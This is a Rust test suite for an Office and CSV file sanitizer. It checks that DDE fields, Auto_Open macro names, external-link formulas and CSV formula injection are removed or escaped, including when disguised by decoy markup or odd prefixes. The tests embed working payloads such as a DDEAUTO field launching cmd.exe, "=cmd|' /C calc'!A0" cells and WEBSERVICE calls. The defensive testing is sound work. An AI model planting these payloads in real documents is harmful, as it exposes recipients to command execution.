//! What stands beside a thing that acts so that a judge looks past it, through the public API.

use std::io::Cursor;

use sanitize_core::{Input, Outcome, Sanitizer};
use sanitize_corpus::{
    Marks,
    office::{docx, package::Package, xlsx},
};

fn clean(name: &str, bytes: &[u8]) -> Outcome {
    Sanitizer::builder().build().unwrap().sanitize(Input::new(bytes).named(name))
}

/// A part of the cleaned package, which stays as it is when it is cleaned again, and what was reported.
#[track_caller]
fn cleaned(name: &str, package: &Package, part: &str) -> (String, Vec<&'static str>) {
    let outcome = clean(name, &package.zip());
    let output = outcome.bytes().unwrap_or_else(|| panic!("{}", outcome.report().to_json_pretty()));
    assert!(clean(name, output).bytes() == Some(output), "a second time");
    let mut archive = zip::ZipArchive::new(Cursor::new(output)).unwrap();
    let mut text = Vec::new();
    std::io::copy(&mut archive.by_name(part).unwrap(), &mut text).unwrap();
    let found = outcome.report().findings().iter().map(|finding| finding.threat.id).collect();
    (String::from_utf8(text).unwrap(), found)
}

const DOCUMENT: &str = "word/document.xml";
const DDE: &str = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" ";

fn with_body(body: &str) -> Package {
    let namespace = " xmlns:foo=\"urn:example:foo\"";
    docx::docx(&Marks::new("test")).fill(DOCUMENT, "ns", namespace).fill(DOCUMENT, "body", body)
}

fn mark(kind: &str) -> String {
    format!("<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>")
}

fn field(instruction: &str) -> String {
    let (begin, separate, end) = (mark("begin"), mark("separate"), mark("end"));
    format!("<w:p>{begin}{instruction}{separate}<w:r><w:t>SHOWN</w:t></w:r>{end}</w:p>")
}

#[test]
fn a_field_is_what_is_written_and_not_what_stood_between() {
    let dde = format!("<w:r><w:instrText xml:space=\"preserve\">{DDE}</w:instrText></w:r>");
    let decoy = "<w:instrText>= 1 </w:instrText>";
    let attribute = DDE.replace('"', "&quot;");
    let bodies = [
        field(&format!("<foo:bar><w:r>{decoy}</w:r></foo:bar>{dde}")),
        field(&format!("<w:r><foo:instrText>= 1 </foo:instrText></w:r>{dde}")),
        field(&format!(
            "<w:r><w:ruby><w:rubyPr/><w:rt><w:r>{decoy}</w:r></w:rt><w:rubyBase><w:r><w:t>x</w:t></w:r>\
             </w:rubyBase></w:ruby></w:r>{dde}"
        )),
        field(&format!("<w:r><w:rPr>{decoy}</w:rPr></w:r>{dde}")),
        format!(
            "<w:p><w:fldSimple foo:instr=\" PAGE \" w:instr=\"{attribute}\"><w:r><w:t>SHOWN</w:t></w:r>\
             </w:fldSimple></w:p>"
        ),
        format!(
            "<w:p><w:fldSimple instr=\" PAGE \" w:instr=\"{attribute}\"><w:r><w:t>SHOWN</w:t></w:r>\
             </w:fldSimple></w:p>"
        ),
        field(&format!(
            "<w:r><w:instrText>= </w:instrText></w:r>\
             <w:r><w:fldChar foo:fldCharType=\"begin\" w:fldCharType=\"end\"/></w:r><w:r><w:instrText>PAGE\
             </w:instrText></w:r><w:r><w:fldChar foo:fldCharType=\"end\" w:fldCharType=\"begin\"/></w:r>{dde}"
        )),
    ];
    for body in bodies {
        let (document, found) = cleaned("a.docx", &with_body(&body), DOCUMENT);
        assert!(!document.contains("DDEAUTO"), "{body}\n{document}");
        assert!(document.contains("SHOWN"), "{document}");
        assert!(found.iter().any(|id| id.starts_with("docx.")), "{found:?}");
    }
}

#[test]
fn fields_that_are_allowed_stay_though_something_else_is_left_out_of_the_part() {
    let body = format!(
        "{}{}<foo:bar/>",
        field("<w:r><w:instrText> PAGE \\* MERGEFORMAT </w:instrText></w:r>"),
        "<w:p><w:fldSimple w:instr=\" NUMPAGES \"><w:r><w:t>3</w:t></w:r></w:fldSimple></w:p>"
    );
    let (document, _) = cleaned("a.docx", &with_body(&body), DOCUMENT);
    assert!(document.contains(" PAGE \\* MERGEFORMAT ") && document.contains(" NUMPAGES "), "{document}");
    assert!(!document.contains("bar"), "{document}");
}

#[test]
fn a_link_to_the_web_is_nothing_but_a_link() {
    let picture = docx::with_picture(&Marks::new("test"));
    let body = "<w:p><w:hyperlink r:id=\"rIdWeb\"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>";
    let package = picture.fill(DOCUMENT, "body", body).external(
        DOCUMENT,
        "rIdWeb",
        "hyperlink",
        "http://example.invalid/a.png",
    );
    let (document, _) = cleaned("a.docx", &package, DOCUMENT);
    assert!(document.contains("<w:hyperlink r:id=\"rIdWeb\""), "{document}");
    let at = document.find("r:embed=\"").map(|at| at + "r:embed=\"".len()).unwrap();
    let id = document.get(at..).and_then(|rest| rest.split('"').next()).unwrap().to_owned();
    let package = package.replace(DOCUMENT, &format!("r:embed=\"{id}\""), "r:embed=\"rIdWeb\"");
    let (document, _) = cleaned("a.docx", &package, DOCUMENT);
    assert!(document.contains("<w:hyperlink r:id=\"rIdWeb\""), "{document}");
    assert!(!document.contains("r:embed=\"rIdWeb\""), "{document}");
}

const SHEET: &str = "xl/worksheets/sheet1.xml";

#[test]
fn bounds_of_a_scale_are_formulas() {
    let scale = |bound: &str| {
        let rule = format!(
            "<conditionalFormatting sqref=\"A1:A3\"><cfRule type=\"colorScale\" priority=\"1\"><colorScale>\
             <cfvo type=\"min\"/><cfvo type=\"formula\" val=\"{bound}\"/><color rgb=\"FFFF0000\"/>\
             <color rgb=\"FF00FF00\"/></colorScale></cfRule></conditionalFormatting>"
        );
        let package = xlsx::xlsx(&Marks::new("test")).fill(SHEET, "after", &rule);
        cleaned("a.xlsx", &package, SHEET).0
    };
    let kept = scale("$A$1*2");
    assert!(kept.contains("val=\"$A$1*2\""), "{kept}");
    let left = scale("WEBSERVICE(&quot;http://example.invalid/?&quot;&amp;A1)");
    assert!(!left.contains("WEBSERVICE") && !left.contains("colorScale"), "{left}");
}

#[test]
fn names_that_start_by_themselves_go_however_they_are_dressed() {
    for name in [
        "<definedName xmlns:foo=\"urn:example:foo\" foo:name=\"bar\" name=\"Auto_Open\">Sheet1!$A$1</definedName>",
        "<definedName name=\"Auto_Open\">Sheet1<!-- x -->!$A$1</definedName>",
        "<definedName name=\"_xlnm.Auto_Open\"/>",
    ] {
        let package = xlsx::xlsx(&Marks::new("test")).fill("xl/workbook.xml", "names", name);
        let (workbook, _) = cleaned("a.xlsx", &package, "xl/workbook.xml");
        assert!(!workbook.contains("uto_Open"), "{workbook}");
    }
}

#[test]
fn pieces_of_an_address_are_one() {
    let formula = |text: &str| {
        let cell = format!("<row r=\"50\"><c r=\"A50\"><f>{text}</f><v>7</v></c></row>");
        let package = xlsx::xlsx(&Marks::new("test")).fill(SHEET, "rows", &cell);
        cleaned("a.xlsx", &package, SHEET).0
    };
    let local = formula("INDIRECT(\"'\"&amp;A1&amp;\"'!B2\")");
    assert!(local.contains("INDIRECT"), "{local}");
    let far = formula("INDIRECT(\"'ht\"&amp;\"tp:/\"&amp;\"/example.invalid/x.ods'#$Sheet1.A1\")");
    assert!(!far.contains("INDIRECT") && far.contains("<v>7</v>"), "{far}");
}

#[test]
fn formulas_behind_the_delimiter_of_another_program_are_found_behind_whatever_stands_first() {
    for cell in [
        "= cmd|' /C calc'!A0",
        "=\tcmd|'x'!A0",
        "=$A$1+cmd|'x'!A0",
        "={1}+cmd|'x'!A0",
        "=!A+cmd|'x'!A0",
        "+ cmd|' /C calc'!A0",
        "-\"x\"+cmd|'x'!A0",
        "@ SUM(cmd|'x'!A0)",
        "= WEBSERVICE(\"http://example.invalid/\")",
    ] {
        for (line, name) in
            [(format!("1,2,x;{cell}\n3,4,5\n"), "a.csv"), (format!("1;2;x,{cell}\n3;4;5\n"), "b.csv")]
        {
            let outcome = clean(name, line.as_bytes());
            let bytes = outcome.bytes().unwrap();
            let text = String::from_utf8_lossy(bytes);
            assert!(text.contains(&format!("'{cell}")), "{text}");
            assert!(clean(name, bytes).bytes() == Some(bytes), "a second time");
        }
    }
    for prose in ["a; - point (one), b\n", "x;- 注意(重要),y\n", "a = b; c, d - e; f!\n"] {
        let text = format!("{prose}{prose}");
        assert_eq!(clean("a.csv", text.as_bytes()).bytes(), Some(text.as_bytes()), "{prose}");
    }
}
